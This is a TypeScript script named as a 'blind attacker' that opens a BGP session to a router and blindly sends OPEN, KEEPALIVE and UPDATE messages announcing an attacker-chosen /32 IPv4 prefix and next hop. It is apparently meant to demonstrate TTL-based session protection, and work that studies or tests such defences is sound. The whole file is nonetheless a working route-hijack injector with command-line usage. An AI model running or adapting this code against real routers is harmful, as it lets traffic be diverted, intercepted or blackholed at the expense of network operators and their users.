/**
 * Someone who does not wait for answers: connects, writes OPEN, KEEPALIVE and one UPDATE, and goes on with KEEPALIVEs. A router
 * whose packets carry TTL 1 cannot reach it behind a hop, and need not: the handshake is the kernel's, and all else goes one way.
 *
 *   node blind-attacker.ts ROUTER PORT OUR-ASN NEXT-HOP PREFIX
 */

import net from 'node:net';
import { ipv4, prefix } from 'bgp-ts';

const [router = '', port = '', asn = '', nextHop = '', stolen = ''] = process.argv.slice(2);
const keepaliveMs = 1000;

const u16 = (value: number) => [(value >>> 8) & 255, value & 255];
const u32 = (value: number) => [...u16(value >>> 16), ...u16(value & 0xffff)];

function message(type: number, body: readonly number[]): Uint8Array {
  return Uint8Array.from([...Array(16).fill(255), ...u16(19 + body.length), type, ...body]);
}

const multiprotocolIpv4 = [1, 4, 0, 1, 0, 1];
const fourOctets = [65, 4, ...u32(Number(asn))];
const capabilities = [...multiprotocolIpv4, ...fourOctets];
const open = message(1, [
  ...[4, ...u16(Number(asn)), ...u16(90), ...u32(0x0a0a0a0a)],
  ...[capabilities.length + 2, 2, capabilities.length, ...capabilities],
]);
const keepalive = message(4, []);
const route = prefix(stolen);
if (route.family !== 'ipv4') throw new Error('an IPv4 host route is what it steals');
const attributes = [
  ...[0x40, 1, 1, 0],
  ...[0x40, 2, 6, 2, 1, ...u32(Number(asn))],
  ...[0x40, 3, 4, ...u32(ipv4(nextHop).bits)],
];
const update = message(2, [0, 0, ...u16(attributes.length), ...attributes, 32, ...u32(route.bits)]);

const socket = net.connect({ host: router, port: Number(port) });
socket.on('connect', () => {
  process.stdout.write('connected\n');
  socket.write(open);
  socket.write(keepalive);
  socket.write(update);
  setInterval(() => socket.write(keepalive), keepaliveMs);
});
socket.on('data', () => process.stdout.write('answered\n'));
socket.on('error', (error) => {
  process.stdout.write(`failed: ${error.message}\n`);
  process.exit(1);
});
socket.on('close', () => process.exit(1));
